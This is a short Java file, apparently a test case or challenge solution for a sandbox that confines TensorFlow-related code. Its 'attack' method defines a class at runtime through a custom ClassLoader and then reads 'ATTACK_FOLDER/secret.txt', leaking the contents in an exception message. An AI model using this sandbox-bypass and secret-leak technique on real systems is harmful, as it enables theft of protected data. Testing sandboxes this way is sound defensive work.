import java.lang.classfile.ClassFile;
import java.lang.constant.ClassDesc;
import java.nio.file.Files;
import java.nio.file.Path;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        final class Own extends ClassLoader {
            Class<?> define(byte[] bytes) {
                return defineClass("Made", bytes, 0, bytes.length);
            }
        }
        new Own().define(ClassFile.of().build(ClassDesc.of("Made"), type -> {}));
        throw new IllegalStateException(Files.readString(Path.of("ATTACK_FOLDER/secret.txt")));
    }
}
